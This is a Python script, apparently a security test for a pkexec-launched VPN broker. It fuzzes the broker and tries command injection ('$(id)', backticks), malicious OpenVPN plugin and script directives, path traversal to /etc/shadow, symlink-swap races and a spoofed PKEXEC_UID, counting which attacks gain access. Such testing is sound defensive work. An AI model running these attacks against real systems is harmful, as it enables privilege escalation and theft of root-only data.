"""window.py BROKER ATTACK [STATE SECRET]: a window that means harm, in the place of Korvan's, run by an ordinary person.
Prints the number of tries, how often the honest form of the same worked, and how often something came of it."""

import array
import os
import random
import socket
import struct
import subprocess
import sys
import threading

broker, attack = sys.argv[1:3]
state, secret = (sys.argv + ["", ""])[3:5]


class Window:
    """One end of the talk with a broker that pkexec starts."""

    def __init__(self, ends=None):
        self.socket, theirs = ends or socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self.process = subprocess.Popen(["pkexec", broker], stdin=theirs, stderr=subprocess.DEVNULL)
        theirs.close()
        self.socket.settimeout(20)
        try:
            self.greeting = self.socket.recv(100).decode()
        except OSError:
            self.greeting = ""

    def send(self, text, files=()):
        try:
            part = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))] if files else []
            self.socket.sendmsg([text], part)
        except OSError:
            pass  # more descriptors than the kernel takes

    def run(self, *words, seconds=5):
        """What a helper says, and its status: None when there was none."""
        channel, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self.send(b"".join(os.fsencode(word) + b"\0" for word in words), [theirs.fileno()])
        theirs.close()
        read, write = os.pipe()
        null = os.open("/dev/null", os.O_RDONLY)
        channel.settimeout(seconds)
        status = None
        try:
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null, write, write]))])
            os.close(write)
            write = -1
            answer = channel.recv(4)
            status = struct.unpack("i", answer)[0] if len(answer) == 4 else None
        except OSError:
            pass
        channel.close()  # which ends the helper
        for file in (write, null):
            if file >= 0:
                os.close(file)
        output = b""
        while block := os.read(read, 65536):
            output += block
        os.close(read)
        return output.decode(errors="replace"), status

    def works(self):
        """The honest form: a helper is started and answers."""
        return self.greeting == "ready" and self.run("route", "print", "0.0.0.0", "mask", "0.0.0.0")[1] == 0

    def end(self):
        self.socket.close()
        self.process.wait()


def garbage(tries=10000):
    window = Window()
    works = window.works()
    names = [b"compose", b"compose4", b"composec", b"route", b"down", b"sh", b"/bin/sh", b"../x"]
    folder = os.open("/", os.O_RDONLY)
    for turn in range(tries):
        text = random.choice(names)[: random.randrange(12)] + random.randbytes(random.randrange(40)) + b"x"
        if turn % 100 == 0:
            text = text * 2000
        window.send(text, [random.choice([folder, window.socket.fileno(), 0])] * random.randrange(12))
    gained = not window.works()
    window.end()
    return tries, works, gained


def hostile_arguments():
    profile = state + "/cfg/OpenVPN/temp"
    honest = ["--config", profile, "--cd", state + "/cfg/OpenVPN/"]
    # Files beside the real ones: what a profile of the person's own may say.
    lines = [f"plugin {secret}.so", f"up {secret}.sh", f"tls-verify {secret}.sh", f"log {secret}", f"status {secret}",
             f"writepid {secret}", f"config {secret}", f"ca {secret}", f"auth-user-pass {secret}", "ca ../../../../secret",
             "management 0.0.0.0 7777", f"management {secret} unix", f"iproute {secret}.sh", f"cd {secret}", "user ada",
             f"--up {secret}.sh", f"\"up\" {secret}.sh", f"  up\t{secret}.sh", f"setenv PATH {secret}", "daemon x",
             f"client-connect {secret}.sh", f"<connection>\nup {secret}.sh\n</connection>", f"pkcs11-providers {secret}.so",
             f"engine {secret}.so", f"providers {secret}.so", f"replay-persist {secret}", f"tmp-dir {secret}", "ca link"]
    for number, line in enumerate(lines):
        with open(f"{profile}{number}", "w", encoding="utf-8") as file:
            file.write(f"client\ndev tun\nremote 203.0.113.99 9\nscript-security 3\n{line}\n")
    os.path.lexists(state + "/cfg/OpenVPN/link") or os.symlink(secret, state + "/cfg/OpenVPN/link")
    requests = [["compose", "--config", f"{profile}{number}", "--cd", state + "/cfg/OpenVPN/"] for number in range(len(lines))]
    for more in (["--up", secret + ".sh"], ["--plugin", secret + ".so"], ["--management", "0.0.0.0", "7"], ["--log", secret],
                 ["--auth-user-pass", secret], ["--http-proxy", "h", "1", secret], ["--cd", "/"], ["--up", "up.sh; id"],
                 ["--script-security", "3"], ["--config", secret], [f"--config={secret}"], ["--down", secret + ".sh"]):
        requests.append(["compose", *honest, *more])
    for path in (secret, "/" + secret, "/etc/shadow", state + "/../../../../../../../.." + secret, "/proc/1/environ", "/dev/tty",
                 state + "/cfg/OpenVPN/link", "/cfg/OpenVPN/" + secret, "/proc/self/fd/0", "link", ""):
        requests += [["compose", "--config", path], ["compose4", "CHECK", path], ["down", path],
                     ["composec", "--log-stderr", "--user", "x", "--password", "y", "h", "logfile", path],
                     ["composec", "h", "plugin", path], ["compose4", "L2TP", "n", "h", path], ["compose4", path]]
    for word in ("0.0.0.0; " + secret + ".sh", "`id`", "-A", "--help", "\n", "$(id)", "x" * 9000, "mask", "é\xff", "-"):
        requests += [["route", "add", word, "mask", "0.0.0.0"], ["route", "change", "1.2.3.4", "mask", "255.255.255.255", word],
                     ["route", "print", word, "mask", word], ["down", word],
                     ["compose4", word, word, word], ["compose4", "-", word], ["composec", word], ["compose", word]]
    window = Window()
    works = window.works()
    gained = 0
    for request in requests:
        output, _ = window.run(*request, seconds=1)
        if "SECRET" in output or "root:" in output or "uid=0" in output:
            print("  ", request, output[:200], file=sys.stderr)
            gained += 1
    gained += root_log(window)
    for number in range(len(lines)):
        os.remove(f"{profile}{number}")
    gained += not window.works()
    window.end()
    return len(requests) + 1, works, gained


def root_log(window):
    """Has pppd write its log, as root, over a root-only file: whether sstpc is told to."""
    quiet = socket.create_server(("127.0.0.1", 0))
    server = "127.0.0.1:%d" % quiet.getsockname()[1]
    ours = state + "/sstp"
    thread = threading.Thread(target=window.run, args=("composec", server, "logfile", ours, "logfile", secret))
    thread.start()
    found = False
    while thread.is_alive() and not found:
        for process in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{process}/cmdline", "rb") as file:
                    words = file.read().split(b"\0")
            except OSError:
                continue
            found = found or words[0].endswith(b"/sstpc") and os.fsencode(secret) in words
    thread.join()
    return found


def swapped_profile(tries=200):
    folder = state + "/cfg/OpenVPN"
    good, hidden = folder + "/good", os.path.dirname(secret) + "/hidden"
    with open(good, "w", encoding="utf-8") as file:
        file.write("client\nplugin x\n")  # refused, so that no tunnel comes of it
    done = threading.Event()

    def swap():
        while not done.is_set():
            for source in (secret, good):
                os.symlink(source, folder + "/swap")
                os.replace(folder + "/swap", folder + "/temp")
            os.link(good, folder + "/swap")
            os.replace(folder + "/swap", folder + "/temp")
            os.rename(folder, folder + ".away")
            os.symlink(hidden, folder)
            os.remove(folder)
            os.rename(folder + ".away", folder)

    window = Window()
    works = window.works()
    thread = threading.Thread(target=swap)
    thread.start()
    outputs = [window.run("compose", "--config", folder + "/temp")[0] for _ in range(tries)]
    done.set()
    thread.join()
    window.end()
    os.remove(good)
    os.remove(folder + "/temp")
    return tries, works and any("plugin" in output for output in outputs), sum("SECRET" in output for output in outputs)


def strangers():
    """A broker's end of the socket that is no window's, or somebody else's: the descriptor 3, when there is one."""
    tries = gained = 0
    stream = socket.socketpair()
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    listener.bind("\0" + str(os.getpid()))
    listener.listen()
    ends = [stream, (listener.dup(), listener)]
    if len(sys.argv) > 5:
        ends += [(socket.socket(fileno=int(number)).dup(), socket.socket(fileno=int(number))) for number in sys.argv[5:]]
    for pair in ends:
        window = Window(pair)
        tries += 1
        gained += window.greeting == "ready"
        window.end()
    for claimed in ("0", str(os.getuid()), "1"):
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        subprocess.run([broker], stdin=theirs, env={"PKEXEC_UID": claimed}, stderr=subprocess.DEVNULL, check=False)
        theirs.close()
        tries += 1
        gained += ours.recv(100) == b"ready"
    second = Window()  # while somebody has the tunnel
    gained += second.greeting == "ready"
    print("  ", second.greeting, file=sys.stderr)
    second.end()
    return tries + 1, 1, gained


print(*map(int, {"garbage": garbage, "arguments": hostile_arguments, "swap": swapped_profile, "strangers": strangers}[attack]()))
